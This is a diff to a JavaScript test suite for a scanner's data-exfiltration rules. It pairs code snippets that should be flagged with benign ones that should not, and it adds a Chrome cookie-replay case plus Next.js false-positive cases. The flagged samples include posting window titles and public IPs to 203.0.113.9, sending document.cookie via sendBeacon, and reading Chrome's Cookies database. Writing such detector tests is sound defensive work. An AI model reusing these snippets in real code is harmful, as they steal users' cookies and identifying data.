@@ -118,6 +118,7 @@ describe("data_exfiltration: fingerprinting and wider sources", () => {
     ["window title posted", `title = win32gui.GetWindowText(win32gui.GetForegroundWindow())\nrequests.post("http://203.0.113.9/w", data={"w": title})`, "data_exfiltration.http.send_sensitive"],
     ["public IP reported", `ip = requests.get("https://api.ipify.org").text\nrequests.post("http://203.0.113.9/ip", data={"ip": ip})`, "data_exfiltration.http.send_sensitive"],
     ["sendBeacon with cookies", `navigator.sendBeacon("https://collect.example.net/c", document.cookie)`, "data_exfiltration.http.send_sensitive"],
+    ["Chrome's cookie file replayed", `p = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Network", "Cookies")\nrows = sqlite3.connect(p).execute("select host_key, name, encrypted_value from cookies").fetchall()\ns = requests.Session()\ns.cookies = jar`, "data_exfiltration.http.cookie_replay"],
   ])("%s", (_name, text, rule) => {
     expect(rules(text)).toContain(rule);
   });
@@ -130,6 +131,10 @@ describe("data_exfiltration: fingerprinting and wider sources", () => {
     ["one header read", `ua = request.headers.get("User-Agent")\nif "bot" in ua: abort(403)`],
     // TypeScript's lib.dom.d.ts: the extension's declaration names it and its two constants.
     ["the WebGL debug extension declared", `/**\n * The **\`WEBGL_debug_renderer_info\`** extension is part of the WebGL API.\n *\n * [MDN Reference](https://developer.mozilla.org/docs/Web/API/WEBGL_debug_renderer_info)\n */\ninterface WEBGL_debug_renderer_info {\n    readonly UNMASKED_VENDOR_WEBGL: 0x9245;\n    readonly UNMASKED_RENDERER_WEBGL: 0x9246;\n}`],
+    // Next.js's own request store (a framework keeping its request's cookies) and its CPU
+    // profiler (node:inspector's session.post names DevTools methods, not addresses).
+    ["a framework's cookie store", `function getMutableCookies(headers, onUpdateCookies) {\n    const cookies = new ResponseCookies(HeadersAdapter.from(headers));\n    return MutableRequestCookiesAdapter.wrap(cookies, onUpdateCookies);\n}\nset cookies (value){\n    cache.cookies = value;\n}`],
+    ["an inspector session", `const isCpuProfileEnabled = process.env.NEXT_CPU_PROF;\nconst session = new Session();\nsession.connect();\nsession.post('Profiler.enable');\nsession.post('Profiler.start');`],
     ["a preloaded image", `const img = new Image();\nimg.src = "/static/logo.png";`],
     ["a jQuery form post", `$.post("/api/comments", { text: $("#comment").val() });`],
     ["posting form data to an API", `resp = client.post("https://api.example.com/v1/orders", json={"sku": sku, "qty": 2})`],
